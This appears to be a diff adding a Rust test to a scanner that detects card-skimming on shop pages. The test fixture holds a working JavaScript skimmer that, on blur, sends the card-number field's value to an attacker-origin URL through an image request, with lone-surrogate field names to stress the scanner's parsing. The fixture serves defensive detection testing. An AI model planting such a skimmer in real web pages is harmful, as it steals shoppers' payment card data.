@@ -65,6 +65,44 @@ f.addEventListener("blur", () => {{ new Image().src = "{thief}?d=" + encodeURICo
     assert!(access.access.field.len() <= 300, "{}", access.access.field.len());
 }
 
+#[test]
+fn card_field_named_with_lone_surrogates_is_still_typed_into_and_its_thief_caught() {
+    // Strings a script builds may hold lone UTF-16 surrogates, which no JSON parser in the
+    // monitor accepts: the field's id, name and label carry them (set by script, as HTML text
+    // cannot), so any listing of the fields that returned them raw would be lost.
+    let shop = Shop::start_in_background().expect("start the test shop");
+    let thief = shop.url(Origin::Attacker, "/c");
+    shop.set_resource(
+        Origin::Shop,
+        "/p",
+        Resource::html(format!(
+            r#"<html><body><form>
+<label for="cc">Card number</label><input id="cc" autocomplete="cc-number" size="20">
+<input id="exp" name="exp" autocomplete="cc-exp"><input id="cvc" name="cvc" autocomplete="cc-csc">
+<button type="button" id="pay">Pay</button>
+</form><script>
+const f = document.getElementById("cc");
+const lone = "\ud800", pad = "x".repeat(27);
+f.name = "cardnumber" + lone;
+f.setAttribute("placeholder", "card " + pad + "\ud83d\ude00" + lone);
+document.querySelector("label").textContent = "Card number " + pad + "\ud83d\ude00";
+document.getElementById("pay").textContent = "Pay " + "y".repeat(195) + "\ud83d\ude00" + lone;
+f.id = "cc" + lone;
+f.addEventListener("blur", () => {{ new Image().src = "{thief}?d=" + encodeURIComponent(f.value); }});
+</script></body></html>"#
+        )),
+    );
+    let url = shop.url(Origin::Shop, "/p");
+    let ws = Workspace::with_page_config(shop, "p", &url, "settle = \"300ms\"");
+    let (code, report, _) = scan_env(&ws, &[]);
+    let p = page(&report, "p");
+    assert_eq!(p.status, PageStatus::Ok, "{:?}", p.error);
+    assert_eq!(code, 1, "{}", describe(&report));
+    let typed = &p.interaction.as_ref().expect("the shopper ran").fields_typed;
+    assert!(!typed.is_empty(), "the card field was typed into: {}", describe(&report));
+    assert!(!findings_of(&report, FindingKind::CardExfiltration).is_empty(), "{}", describe(&report));
+}
+
 fn three_pages_one_panicking() -> Workspace {
     let shop = Shop::start_in_background().expect("start the test shop");
     for path in ["/healthy-a", "/panic-me", "/healthy-c"] {
